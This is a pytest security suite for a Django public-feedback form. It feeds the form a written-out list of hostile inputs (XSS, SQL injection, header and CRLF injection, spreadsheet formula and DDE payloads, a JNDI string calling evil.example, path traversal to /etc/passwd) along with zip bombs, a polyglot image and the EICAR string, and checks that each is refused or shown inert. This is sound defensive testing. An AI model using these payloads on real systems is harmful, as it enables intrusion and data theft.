"""Sends of people who mean harm: nothing runs, nothing leaks, what is refused is kept nowhere and says why."""

import io
import json
import re
import socketserver
import threading
import zipfile
from email import message_from_bytes
from email.policy import default as policy
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from lxml import html

from feedback import files
from feedback.models import Attachment, Case, Event
from tests.feedback.test_sending import WORDS, come_back, fields, open_form, picture, tree
from tests.media_library import hostile

pytestmark = pytest.mark.usefixtures("founded")

MARK = "zqx9"  # every payload carries it: what runs or becomes a tag would show it
PAYLOADS = [
    f"<script>{MARK}()</script>",
    f"<img src=x onerror={MARK}()>",
    f'"><svg/onload={MARK}()>',
    f"' autofocus onfocus={MARK}() x='",
    f"</textarea><script>{MARK}()</script>",
    f"</title><script src=//evil.example/{MARK}.js></script>",
    f"javascript:{MARK}()",
    f"{{{{ {MARK}|safe }}}}{{% load {MARK} %}}",
    f"<!--{MARK}--><style>*{{background:url(//evil.example/{MARK})}}</style>",
    f"<a href='javascript:{MARK}()'>bấm</a>",
    f"{MARK}\r\nBcc: nan-nhan@example.com\r\n\r\nthư giả",
    f"{MARK}%0d%0aSet-Cookie:a=b",
    f"'; DROP TABLE feedback_case; -- {MARK}",
    f"{MARK}' OR '1'='1",
    f'=HYPERLINK("http://evil.example/{MARK}")',
    f"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}",
    f"../../../../etc/passwd {MARK}",
    f"{MARK}\x00\x08\x1b[31m đỏ",
    f"{MARK} \u202eđảo ngược\u202c \u2066ẩn\u2069",
    f"&lt;script&gt;{MARK}&#x3c;script&#x3e;",
    f"<iframe srcdoc='<script>{MARK}()</script>'></iframe>",
    f"${{jndi:ldap://evil.example/{MARK}}}",
    f"%s%s%n%(mot)s {{0}} {MARK}",
    f"<math><mtext><table><mglyph><style><img src onerror={MARK}()>",
    f"{MARK}" + "́" * 60,
]
FIELDS = ("subject", "text", "name", "address", "phone", "email")


def executes(page):
    """Elements or attributes that a payload became."""
    found = html.fromstring(page.content.decode())
    scripts = [node for node in found.iter("script", "style", "iframe", "svg", "math") if MARK in (node.text or "")]
    handlers = [
        (node.tag, name)
        for node in found.iter()
        if isinstance(node.tag, str)
        for name, value in node.attrib.items()
        if MARK in value
        and (name.startswith("on") or (name in ("href", "src", "action", "formaction") and "javascript:" in value.lower()))
    ]
    foreign = [
        node
        for node in found.iter("img", "script", "link", "iframe", "a")
        if "evil.example" in (node.get("src") or node.get("href") or "")
    ]
    return scripts + handlers + foreign


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_a_payload_in_each_field(number, phone, person, settings, mailoutbox, drain):
    """150 sends: 25 payloads in six fields. What is taken in is shown as words to the sender and to staff."""
    settings.FEEDBACK_LIMITS = {"send": 100, "review": 100, "try": 100}
    _chief, staff = person("chanh", "handle_case", "handle_all_cases")
    payload = PAYLOADS[number]
    for field in FIELDS:
        before = Case.objects.count()
        page = phone.post("/gop-y/", open_form(phone, **{**WORDS, field: payload}))
        assert page.status_code in (200, 422) and executes(page) == []
        if page.status_code == 422:
            assert tree(page).xpath("//*[@role='alert']") and Case.objects.count() == before
            continue
        share = phone.post("/gop-y/", fields(page, "share"))
        receipt = phone.post("/gop-y/", fields(share, "no"))
        assert executes(share) == [] and executes(receipt) == []
        code, pin = (node.text for node in tree(receipt).xpath("//code"))
        assert executes(come_back(phone, code, pin)) == []
        case = Case.objects.latest("pk")
        assert executes(staff.get("/admin/y-kien/")) == []
        shown = staff.get(f"/admin/y-kien/{case.pk}/?lien-he=1")
        assert shown.status_code == 200 and executes(shown) == []
    drain()
    for letter in mailoutbox:
        raw = message_from_bytes(letter.message().as_bytes(), policy=policy)
        assert raw["Bcc"] is None and len(raw["To"].addresses) == 1 and len(raw.get_all("Subject")) == 1
    assert Case._meta.db_table in connection.introspection.table_names()


def polyglot():
    """A JPEG with a web page behind its end."""
    return picture() + b"<html><script>alert('zqx9')</script>"


def pdf_and_zip():
    out = io.BytesIO(b"%PDF-1.4\n%zqx9\n")
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("a.exe", b"MZ")
    return out.getvalue()


FILES = [
    ("hinh.svg", hostile.SVG),
    ("hinh.png", hostile.SVG),
    ("hinh.jpg", hostile.HTML),
    ("hinh.jpg", hostile.EXECUTABLE),
    ("chuong-trinh.exe", hostile.EXECUTABLE),
    ("don.pdf", hostile.EXECUTABLE),
    ("don.pdf", hostile.HTML),
    ("don.pdf", b""),
    ("don.pdf", b"%PDF-1.4\n" + b"0" * 2000),
    ("don.pdf", pdf_and_zip()),
    ("don.docx", hostile.bomb()),
    ("don.docx", hostile.many_entries()),
    ("don.docx", hostile.laughs()),
    ("don.docx", b"PK\x03\x04" + b"\x00" * 500),
    ("don.docm", hostile.bomb()),
    ("don.zip", hostile.bomb()),
    ("don.html", hostile.HTML),
    ("don", b"abc"),
    ("lon.png", hostile.png(60_000, 60_000)),
    ("hong.jpg", hostile.truncated_jpeg()),
    ("lon.pdf", b"%PDF-1.4\n" + b"x" * (11 * 1024 * 1024)),
    ("eicar.pdf", rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
]


@pytest.mark.parametrize(("name", "content"), FILES, ids=[f"{n}-{name}" for n, (name, _c) in enumerate(FILES)])
def test_a_file_that_is_not_what_it_says(name, content, phone):
    upload = SimpleUploadedFile(name, content)
    page = phone.post("/gop-y/", {**open_form(phone, **WORDS), "attachments": upload})
    assert page.status_code == 422
    summary = tree(page).xpath("//*[@role='alert']")[0].text_content()
    assert name in summary and ("Chưa có gì được lưu" in summary)
    assert list(files.all_names()) == [] and Case.objects.count() == 0


def test_a_picture_with_a_page_behind_it_loses_the_page(phone):
    page = phone.post("/gop-y/", {**open_form(phone, **WORDS), "attachments": SimpleUploadedFile("a.jpg", polyglot())})
    share = phone.post("/gop-y/", fields(page, "share"))
    receipt = phone.post("/gop-y/", fields(share, "no"))
    come_back(phone, *(node.text for node in tree(receipt).xpath("//code")))
    answer = phone.get(f"/gop-y/ho-so/tep/{Attachment.objects.get().pk}/")
    assert b"script" not in answer.content and answer["Content-Security-Policy"] == "default-src 'none'; sandbox"


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd.pdf", "..\\..\\a.jpg", "a\r\nSet-Cookie: b=c.jpg", "<script>zqx9()</script>.jpg", "tên" * 200 + ".jpg"],
)
def test_a_name_of_a_file_is_only_a_name(name, phone, tmp_path):
    page = phone.post("/gop-y/", {**open_form(phone, **WORDS), "attachments": SimpleUploadedFile(name, picture())})
    if page.status_code == 422:
        return
    share = phone.post("/gop-y/", fields(page, "share"))
    receipt = phone.post("/gop-y/", fields(share, "no"))
    back = come_back(phone, *(node.text for node in tree(receipt).xpath("//code")))
    assert executes(page) == [] and executes(back) == []
    answer = phone.get(f"/gop-y/ho-so/tep/{Attachment.objects.get().pk}/")
    assert "\n" not in answer["Content-Disposition"] and "Set-Cookie" not in answer
    assert not [path for path in Path(tmp_path).rglob("*passwd*")]


class Scanner(socketserver.BaseRequestHandler):
    """Speaks ClamAV's INSTREAM and knows one virus."""

    def handle(self):
        line = self.request.makefile("rb")
        assert line.read(10) == b"zINSTREAM\0"
        content = b""
        while size := int.from_bytes(line.read(4), "big"):
            content += line.read(size)
        self.request.sendall(b"stream: Eicar-Test-Signature FOUND\0" if b"EICAR" in content else b"stream: OK\0")


@pytest.fixture
def scanner(settings):
    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Scanner) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        settings.CLAMAV_URL = f"tcp://127.0.0.1:{server.server_address[1]}"
        yield server
        server.shutdown()


def papers(words):
    from fpdf import FPDF

    made = FPDF()
    made.set_compression(False)
    made.add_page()
    made.set_font("Helvetica")
    made.cell(text=words)
    return bytes(made.output())


def test_the_scanner_knows_a_virus_and_marks_what_is_clean(scanner, phone):
    page = phone.post("/gop-y/", {**open_form(phone, **WORDS), "attachments": SimpleUploadedFile("a.pdf", papers("EICAR"))})
    assert page.status_code == 422 and "vi-rút" in tree(page).xpath("//*[@role='alert']")[0].text_content()
    page = phone.post("/gop-y/", {**open_form(phone, **WORDS), "attachments": SimpleUploadedFile("a.pdf", papers("sach"))})
    phone.post("/gop-y/", fields(phone.post("/gop-y/", fields(page, "share")), "no"))
    assert Attachment.objects.get().scanned


def test_a_scanner_that_is_away_refuses_nobody(phone, settings):
    settings.CLAMAV_URL = "tcp://127.0.0.1:9"
    page = phone.post("/gop-y/", {**open_form(phone, **WORDS), "attachments": SimpleUploadedFile("a.pdf", papers("sach"))})
    phone.post("/gop-y/", fields(phone.post("/gop-y/", fields(page, "share")), "no"))
    assert not Attachment.objects.get().scanned


@pytest.mark.parametrize(
    "path",
    [
        "/gop-y/",
        "/gop-y/tra-cuu/",
        "/gop-y/ho-so/bo-sung/",
        "/gop-y/ho-so/danh-gia/",
        "/gop-y/ho-so/du-lieu/",
        "/gop-y/ho-so/xac-nhan/",
    ],
)
@pytest.mark.parametrize("headers", [{}, {"HTTP_ORIGIN": "https://evil.example"}, {"HTTP_ORIGIN": "null"}])
def test_a_request_of_another_site_is_refused(path, headers, phone):
    phone.get("/gop-y/")
    data = {**WORDS, "do": "send", "csrfmiddlewaretoken": phone.cookies["csrftoken"].value if headers else ""}
    assert phone.post(path, data, **headers).status_code == 403
    assert Case.objects.count() == 0


@pytest.mark.parametrize("forged", ["", "x", "a:b:c", "1" * 5000, "eyJ:1:x", '["../../etc/passwd"]'])
def test_forged_cookies_and_tickets_open_nothing(forged, phone, opinion):
    opinion(name="Bà Sáu", phone="0912345678")
    phone.cookies["ho-so"] = forged
    answer = phone.get("/gop-y/ho-so/")
    assert answer.status_code == 302 and answer["Location"] == "/gop-y/tra-cuu/"
    assert phone.get("/gop-y/ho-so/tep/1/").status_code == 302
    page = phone.post("/gop-y/", open_form(phone, **{**WORDS, "files": forged}))
    assert page.status_code == (422 if forged else 200)


@pytest.mark.parametrize(
    "code", ["", "GY-0000-0000-0000", "' OR 1=1 --", "GY-" + "Z" * 10_000, "\x00", "ＧＹ－７Ｋ３Ｍ", "../../"]
)
@pytest.mark.parametrize("pin", ["000000", "", "1" * 5000, "'; --"])
def test_forged_codes_say_one_thing(code, pin, phone, opinion):
    opinion(name="Bà Sáu", phone="0912345678")
    page = come_back(phone, code, pin)
    assert page.status_code == 422
    answer = Client().post("/api/v1/feedback/track", json.dumps({"code": code, "pin": pin}), content_type="application/json")
    assert answer.status_code in (400, 404) and "Sáu" not in answer.content.decode()


def test_a_code_that_exists_takes_the_same_way_as_one_that_does_not(phone, opinion):
    """No clock is needed to see that time cannot tell: the questions to the database are the same, one by one."""
    code = opinion(name="Bà Sáu", phone="0912345678").contact["code"]
    come_back(phone, "GY-9999-9999-9999", "000000")  # what the first page of a process loads once
    asked = []
    for wanted in (code, "GY-1111-2222-3333"):
        with CaptureQueriesContext(connection) as queries:
            assert come_back(phone, wanted, "000000").status_code == 422
        asked.append(
            [re.sub(r"s\d+_x\d+", "s", query["sql"].split("WHERE")[0].split("VALUES")[0]) for query in queries.captured_queries]
        )
    assert asked[0] == asked[1]


@pytest.mark.parametrize(
    "body",
    [b"", b"[]", b"{", b'{"code": 1, "pin": 2}', b"\xff\xfe", b'{"code": "' + b"x" * 5000 + b'", "pin": ""}', b'{"a":' * 500],
)
def test_bad_bodies_of_programs_are_refused_with_words(body):
    answer = Client().post("/api/v1/feedback/track", body, content_type="application/json")
    assert answer.status_code == 400 and answer.json()["errors"]


def test_a_text_of_ten_megabytes_is_refused_before_it_is_kept(phone):
    page = phone.post("/gop-y/", open_form(phone, **{**WORDS, "text": "a" * (10 * 1024 * 1024)}))
    assert page.status_code in (400, 413, 422) and Case.objects.count() == 0 and Event.objects.count() == 0


def test_more_fields_than_a_form_has_are_refused(phone):
    page = phone.post("/gop-y/", {**open_form(phone, **WORDS), **{f"x{n}": "" for n in range(25_000)}})
    assert page.status_code == 400 and Case.objects.count() == 0


def test_a_foreign_case_is_not_opened_by_ones_own(phone, opinion):
    """Attachments and steps belong to the case of the cookie, whatever number stands in the address."""
    other = opinion(
        "của người khác", name="Ông Tám", phone="0987654321", uploads=[("a.pdf", "application/pdf", b"%PDF-tam", False)]
    )
    own = opinion("của tôi", name="Bà Sáu", phone="0912345678")
    come_back(phone, own.contact["code"], own.contact["pin"])
    assert phone.get(f"/gop-y/ho-so/tep/{other.attachments.get().pk}/").status_code == 404
